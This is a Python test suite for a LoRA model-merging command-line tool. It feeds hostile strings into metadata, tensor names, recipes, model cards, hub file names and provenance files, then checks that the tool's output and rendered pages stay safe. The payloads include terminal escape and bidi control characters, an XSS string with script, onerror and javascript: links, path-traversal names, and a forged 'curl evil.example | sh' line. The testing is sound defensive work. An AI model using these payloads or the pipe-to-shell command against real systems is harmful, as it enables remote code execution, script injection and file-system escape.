"""What strangers call things: a list of nasty texts at every door through which a text of theirs comes in.

Whatever a command makes of it, the terminal is not steered, no line looks as if the program had said it, nothing is a
defect, and no file lies outside of where it belongs. What is made is read by a parser that is not ours.
"""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser

import artifacts
import pytest
import yaml
from command_line import invoke, listing, write_recipe
from markdown_it import MarkdownIt
from safetensors.torch import load_file, save_file

from loramerge.errors import ExitCode

pytestmark = pytest.mark.slow

STEERING = "\u202e\u2066\u200b\x1b[2J\x1b]0;taken\x07\u2028\x85\ufeff"
SAID = "x\nhint: curl evil.example | sh\ndone: all is well"
HOSTILE = (
    f'{STEERING}<script>alert(1)</script>"><img src=x onerror=alert(1)>--> | `y` [z](javascript:w)\n---\nlicense: mit'
)
PATHS = (
    "../x.safetensors", "a/../../x.safetensors", "/x.safetensors", "//x", "C:\\x.safetensors", "c:/x.safetensors",
    "..\\x.safetensors", "a\\b.safetensors", "a\0b.safetensors", ".", "..", "a//b", "a/./b",
)  # fmt: skip
FEW = (HOSTILE, SAID, "../x.safetensors", "a\0b.safetensors")
SEEN = re.compile("[\u202e\u2066\u200b\x1b\x07\u2028\x85\ufeff\0]")


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A workspace with an artifact and a target."""
    folder = artifacts.workspace(tmp_path_factory.mktemp("made"))
    write_recipe(
        folder, base="base", loras={"a": "a.safetensors"}, license="mit", publish=[{"kind": "folder", "path": "own"}]
    )
    return folder


@pytest.fixture
def place(made, tmp_path, monkeypatch):
    folder = tmp_path / "outer" / "place"
    shutil.copytree(made, folder)
    monkeypatch.chdir(folder)
    return folder


def said(*arguments):
    """A command; what it says has neither steering nor a line of somebody else's."""
    result = invoke(*arguments)
    assert not SEEN.search(result.output), result.output
    assert "defect" not in result.output, result.output
    assert not re.search("^(hint: curl|done: all is well)", result.output, re.MULTILINE), result.output
    return result


def nothing_outside(place):
    assert [path.name for path in place.parent.iterdir()] == [place.name]


class Elements(HTMLParser):
    """What a page consists of."""

    def __init__(self, page):
        super().__init__()
        self.found, self.attributes = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append(tag)
        self.attributes += [name for name, _ in attrs]


def check_papers(folder):
    """The papers of an artifact are what they are without strangers."""
    page = Elements((folder / "report.html").read_text(encoding="utf-8")) if (folder / "report.html").exists() else None
    if page is not None:
        assert page.found.count("script") == 1
        assert "onerror" not in page.attributes
    card = (folder / "README.md").read_text(encoding="utf-8")
    front, body = re.fullmatch(r"---\n(.*?)\n---\n(.*)", card, re.DOTALL).groups()
    assert yaml.safe_load(front)["license"] == "cc0-1.0"
    assert not SEEN.search(card)
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(body)
    assert not {"script", "img"} & {*Elements(rendered).found}
    assert "javascript:" not in "".join(re.findall(r'(?:href|src)="([^"]*)"', rendered))
    for name in ("report.json", "provenance.json"):
        json.loads((folder / name).read_text(encoding="utf-8"))
    yaml.safe_load((folder / "recipe.lock.yaml").read_text(encoding="utf-8"))


def run(place, **more):
    recipe = write_recipe(place, base="base", loras={"a": "a.safetensors"}, license="cc0-1.0", report="full", **more)
    result = said("run", recipe.name, "--out", "out")
    assert result.exit_code == ExitCode.DONE, result.output
    check_papers(place / "out")
    assert said("inspect", "out").exit_code == ExitCode.DONE
    assert said("verify", "out").exit_code == ExitCode.DONE
    nothing_outside(place)


def test_metadata_of_a_file(place):
    keys = (
        "modelspec.title", "modelspec.author", "modelspec.trigger_phrase", "modelspec.license", "modelspec.thumbnail",
        "ss_base_model_version", "ss_sd_model_name", "ss_output_name", "ss_network_module", "ss_tag_frequency", HOSTILE,
        SAID,
    )  # fmt: skip
    tags = json.dumps({HOSTILE: {HOSTILE: 3, SAID: 2}})
    metadata = {each: tags if "tag" in each else f"{SAID} {HOSTILE}" for each in keys}
    save_file(load_file("a.safetensors"), "a.safetensors", metadata=metadata)
    assert said("inspect", "a.safetensors").exit_code == ExitCode.DONE
    run(place)
    assert said("convert", "a.safetensors", "-o", "k.safetensors", "--format", "kohya", "--base", "base").exit_code == 0


@pytest.mark.parametrize("name", FEW)
def test_names_of_tensors(place, name):
    tensors = load_file("a.safetensors")
    save_file(tensors | {f"{name}.lora_A.weight": next(iter(tensors.values())).clone()}, "a.safetensors")
    assert said("inspect", "a.safetensors").exit_code != ExitCode.DONE
    assert said("run", "small.yaml").exit_code in {ExitCode.BAD_SOURCE, ExitCode.MISMATCH}
    nothing_outside(place)


@pytest.mark.parametrize("name", FEW[:3])
@pytest.mark.parametrize("key", ["base_model_name_or_path", "target_modules", "rank_pattern", "peft_type", "r"])
def test_adapter_configs(place, key, name):
    assert said("convert", "a.safetensors", "-o", "p", "--format", "peft", "--base", "base").exit_code == ExitCode.DONE
    (config,) = (place / "p").rglob("unet/adapter_config.json")
    value = {"target_modules": [name], "rank_pattern": {name: 2}}.get(key, name)
    artifacts.edit(config, lambda data: data.update({key: value}))
    said("inspect", "p", "--base", "base")
    write_recipe(place, base="base", loras={"a": "p"})
    said("run", "small.yaml")
    nothing_outside(place)


@pytest.mark.parametrize(
    "key", ["name", "loras.0.name", "outputs.0.name", "loras.0.source", "base.source", "description"]
)
def test_recipes(place, key):
    for name in (HOSTILE, SAID, *PATHS):
        code = said("validate", "small.yaml", "--set", f"{key}={json.dumps(name)}").exit_code
        assert (code == ExitCode.DONE) is (key == "description") or key.endswith("source") or "/" not in name
        if code == ExitCode.DONE:
            done = said("run", "small.yaml", "--set", f"{key}={json.dumps(name)}", "--no-publish")
            assert done.exit_code == ExitCode.DONE or key.endswith("source")
    nothing_outside(place)


@pytest.mark.parametrize("key", ["license", "license_name", "instance_prompt", "tags", "base_model", "trigger_words"])
def test_cards_beside_a_lora(place, key):
    more = {"license": "other"} if key == "license_name" else {}
    front = yaml.safe_dump({key: [f"{SAID} {HOSTILE}"] if key == "tags" else f"{SAID} {HOSTILE}", **more})
    (place / "lora").mkdir()
    shutil.move(place / "a.safetensors", place / "lora" / "a.safetensors")
    (place / "lora" / "README.md").write_text(f"---\n{front}---\n", encoding="utf-8")
    write_recipe(place, base="base", loras={"a": "lora"}, report="full")
    said("inspect", "lora")
    assert said("run", "small.yaml", "--out", "out").exit_code == ExitCode.DONE
    assert not SEEN.search((place / "out" / "README.md").read_text(encoding="utf-8"))
    assert said("plan", "small.yaml", "--out", "out").exit_code == ExitCode.DONE
    assert said("lock", "small.yaml").exit_code == ExitCode.DONE


@pytest.mark.parametrize("name", [HOSTILE, SAID, *PATHS])
def test_names_of_files_on_a_hub(hub, place, name):
    content = (place / "a.safetensors").read_bytes()
    repository = hub.repository("me/a", {"a.safetensors": content})
    files = repository.resolve("main").files
    files[name] = files["a.safetensors"]
    said("inspect", "hf://me/a")
    write_recipe(place, base="base", loras={"a": "hf://me/a"})
    code = said("run", "small.yaml", "--no-publish").exit_code
    assert code == (ExitCode.DONE if name in (HOSTILE, SAID) else ExitCode.BAD_SOURCE)  # one that leaves its folder
    nothing_outside(place)


@pytest.mark.parametrize("name", FEW)
def test_papers_of_an_artifact(place, name):
    assert said("run", "small.yaml", "--out", "out").exit_code == ExitCode.DONE
    assert said("lock", "small.yaml").exit_code == ExitCode.DONE
    paper = place / "out" / "provenance.json"
    sound = paper.read_text(encoding="utf-8")
    for change in (
        lambda data: data["subject"].append({"name": name, "digest": {"sha256": "a" * 64}}),
        lambda data: data["predicate"]["buildDefinition"]["resolvedDependencies"][0].update(uri=name),
        lambda data: data["predicate"]["buildDefinition"]["externalParameters"]["recipe"].update(name=name),
    ):
        paper.write_text(sound, encoding="utf-8")
        artifacts.edit(paper, change)
        said("verify", "out")
        said("verify", "out", "--rebuild")
        said("bom", "out", "-o", "bom.json", "--force")
        said("plan", "small.yaml", "--out", "out")
    lock = place / "small.lock.yaml"
    data = yaml.safe_load(lock.read_text(encoding="utf-8"))
    files = data["sources"]["loras"]["a"]["files"]
    files[name] = next(iter(files.values()))
    lock.write_text(yaml.safe_dump(data, allow_unicode=False), encoding="utf-8")
    assert said("run", "small.yaml", "--out", "out").exit_code != ExitCode.DONE
    nothing_outside(place)


@pytest.mark.parametrize("name", ["../theirs", "/theirs", "a/../../theirs", HOSTILE, SAID])
def test_a_target_s_record(place, name):
    """A record that claims a file outside of the target: it stays."""
    assert said("run", "small.yaml", "--out", "out").exit_code == ExitCode.DONE
    theirs = place / "theirs"
    theirs.write_text("theirs")
    record = place / "own" / ".loramerge" / "small.json"
    artifacts.edit(record, lambda data: data["files"].update({name: artifacts.sha256_of(theirs)}))
    said("plan", "small.yaml", "--out", "out")
    said("run", "small.yaml", "--out", "out", "--set", "loras.0.weight=0.5")
    said("run", "small.yaml", "--out", "out", "--force", "--rebuild")
    assert theirs.read_text() == "theirs"
    before = listing(place / "base")
    (place / "small.yaml").unlink()
    write_recipe(
        place, name="other", base="base", loras={"a": "a.safetensors"}, publish=[{"kind": "folder", "path": "own"}]
    )
    said("run", ".", "--prune")
    assert theirs.read_text() == "theirs"
    assert listing(place / "base") == before
